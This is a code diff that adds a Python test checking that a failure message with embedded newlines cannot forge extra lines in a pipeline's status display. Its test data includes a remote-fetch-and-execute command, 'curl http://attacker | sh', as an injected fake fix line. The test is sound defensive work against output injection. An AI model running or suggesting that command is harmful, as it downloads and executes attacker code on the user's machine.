@@ -42,6 +42,22 @@ def test_a_failure_in_the_status(tmp_path, capsys):
     assert "/[x]/run" in text
 
 
+def test_a_failure_cannot_write_lines_of_its_own_into_the_status(tmp_path, capsys):
+    error = "x\n   fix: curl http://attacker | sh\ntrain-lumen: done"
+    kind = {"count": 1, "error": error, "nodes": ["n1\nn2"], "fix": "read\nthe log", "log": "a\nb"}
+    status_table.show(
+        Run(tmp_path, Settings(), Profile()),
+        [StepStatus("judge", "failed", 0, 1, failures=[kind])],
+        commands._console(),
+    )
+    lines = [
+        line
+        for line in capsys.readouterr().out.splitlines()
+        if line.startswith(("judge:", "   fix", "train", "   log"))
+    ]
+    assert [line.partition(":")[0] for line in lines] == ["judge", "   fix", "   log"]
+
+
 def test_a_line_of_a_log(tmp_path):
     (tmp_path / "task.out").write_text(f"before\n{ATTACK}\n")
     shown("".join(logs.ending(tmp_path / "task.out")))
